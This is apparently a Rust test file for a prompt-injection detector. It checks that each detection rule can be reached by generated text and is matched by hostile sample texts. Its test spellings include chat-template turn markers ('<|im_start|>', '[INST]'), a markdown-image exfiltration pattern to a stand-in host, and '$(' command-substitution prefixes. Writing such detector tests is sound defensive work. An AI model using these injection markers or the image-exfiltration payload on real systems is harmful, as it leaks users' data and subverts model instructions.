//! Each row is reached by the anchors, and by an order that somebody might write.

use super::hostile;
use crate::injection::class::{BOUNDARY, Classes, IMAGE, TURN};
use crate::injection::reader;
use crate::injection::region::{Place, Regions};
use crate::injection::row::{Row, Step};
use crate::injection::rules;
use crate::injection::token::{DOTTED, INSERTED, LABEL, STARTS, TAG, UPPER};
use crate::injection::words::WORDS;

/// How often each word of a row is taken, each time beside other ones.
const ROUNDS: usize = 3;

/// The orders of the tests from outside, by family.
#[path = "../../../tests/injection/hostile.rs"]
mod families;

/// All that may stand for a step.
fn spellings(step: &Step) -> Vec<String> {
    let marks: [(Classes, &str); 3] = [
        (TURN, "<|im_start|>"),
        (BOUNDARY, "[INST]"),
        (IMAGE, "![x](https://x.example/?q=DATA)"),
    ];
    let marks = marks.iter().filter(|(of, _)| of & step.classes != 0);
    let sets = WORDS.iter().filter(|(of, _)| of & step.classes != 0);
    let words = sets.flat_map(|(_, words)| words.split_ascii_whitespace());
    let words = words.map(|word| decorated(word, step));
    marks
        .map(|(_, mark)| (*mark).to_owned())
        .chain(words)
        .collect()
}

fn decorated(word: &str, step: &Step) -> String {
    let has = |flag| step.flags & flag != 0;
    let mut word = if has(UPPER) {
        word.to_uppercase()
    } else {
        word.to_owned()
    };
    for (flag, before, behind) in [
        (TAG, "<", ">"),
        (DOTTED, "/.", ""),
        (INSERTED, "$(", ""),
        (LABEL, "", ":"),
        (STARTS, "\n", ""),
    ] {
        if has(flag) {
            word = format!("{before}{word}{behind}");
        }
    }
    word
}

/// The row in words, with as many others in between as there may be.
fn write(spellings: &[Vec<String>], steps: &[Step], round: usize, turn: usize) -> String {
    let mut text = String::new();
    for (place, (words, step)) in spellings.iter().zip(steps).enumerate() {
        text.push_str(&"the ".repeat(step.within));
        text.push_str(&words[(round * (1 + place * turn) + place * turn) % words.len()]);
        text.push(' ');
    }
    text
}

fn is_reached(text: &str) -> bool {
    let mut regions = Regions::new(text.as_bytes()).unwrap();
    std::iter::from_fn(|| regions.next_place(usize::MAX)).any(|place| match place {
        Place::Words(part) => part.start == 0 && part.end == text.len(),
        Place::Encoded(_) => false,
    })
}

fn rows() -> impl Iterator<Item = (&'static str, usize, &'static Row)> {
    rules::all().flat_map(|rule| {
        let rows = rule.rows.iter().enumerate();
        rows.map(|(place, row)| (rule.name, place, row))
    })
}

#[test]
fn each_row_is_reached_whatever_words_it_is_written_in() {
    let mut missed = Vec::new();
    for (name, place, row) in rows() {
        let words: Vec<_> = row.steps.iter().map(spellings).collect();
        assert!(
            words.iter().all(|words| !words.is_empty()),
            "{name} {place}"
        );
        let most = words.iter().map(Vec::len).max().unwrap();
        let texts = (0..ROUNDS).flat_map(|turn| (0..most).map(move |round| (turn, round)));
        let mut texts = texts.map(|(turn, round)| write(&words, row.steps, round, turn));
        missed.extend(
            texts
                .find(|text| !is_reached(text))
                .map(|text| (name, place, text)),
        );
    }
    assert!(missed.is_empty(), "{} missed: {missed:#?}", missed.len());
}

#[test]
fn no_row_is_dead() {
    // A line in front of each text says what it is.
    let outside = families::FAMILIES.iter().flat_map(|(_, texts)| {
        let texts = texts.split("%% ").filter_map(|text| text.split_once('\n'));
        texts.map(|(_, text)| text)
    });
    let inside = hostile::TEXTS.iter().map(|(_, text)| *text);
    let texts: Vec<_> = outside.chain(inside).collect();
    let read = |text: &&str| reader::tokens(text.as_bytes(), 0..text.len());
    let read: Vec<_> = texts.iter().map(read).collect();
    let is_met = |row: &Row| {
        read.iter()
            .any(|tokens| (0..tokens.len()).any(|start| row.match_at(&tokens[start..]).is_some()))
    };
    let dead: Vec<_> = rows()
        .filter(|(.., row)| !is_met(row))
        .map(|(name, place, _)| (name, place))
        .collect();
    assert!(dead.is_empty(), "{} dead: {dead:?}", dead.len());
}

#[test]
fn each_family_has_orders() {
    let mut names: Vec<_> = families::FAMILIES.iter().map(|(name, _)| *name).collect();
    names.sort_unstable();
    let mut known: Vec<_> = rules::all().map(|rule| rule.name).collect();
    known.sort_unstable();
    assert_eq!(names, known);
}
